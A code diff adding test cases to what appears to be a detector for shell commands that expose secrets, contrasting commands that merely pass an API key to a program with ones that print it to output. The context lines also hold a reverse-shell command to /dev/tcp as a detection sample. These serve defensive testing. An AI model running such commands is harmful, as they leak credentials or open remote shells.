@@ -153,6 +153,32 @@ describe('secrets are followed', () => {
   })
 })
 
+describe('a secret that a program is handed', () => {
+  const shown = (text: string) => some(text, 'expose-secret', ({ sink }) => sink === 'output')
+
+  it.each([
+    'python evaluate.py --api-key "$API_KEY"',
+    'node scripts/sync.js --token "$GITHUB_TOKEN"',
+    'terraform plan -var "password=$DB_PASSWORD"',
+    'gh secret set NPM_TOKEN --body "$NPM_TOKEN"',
+    'echo -n "$API_KEY" | wc -c',
+    'echo -n "$API_KEY" | sha256sum',
+  ])('%s is used', (text) => {
+    expect(shown(text)).toBe(false)
+  })
+
+  it.each([
+    'python3 -c "import sys; print(sys.argv[1])" "$API_KEY"',
+    'node -p "process.argv[1]" "$API_KEY"',
+    'docker run --rm alpine echo "$API_KEY"',
+    'kubectl exec x -- echo "$API_KEY"',
+    'echo "$API_KEY" | base64',
+    'printf %s "$API_KEY"',
+  ])('%s shows it', (text) => {
+    expect(shown(text)).toBe(true)
+  })
+})
+
 describe('shells on sockets', () => {
   it.each([
     'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
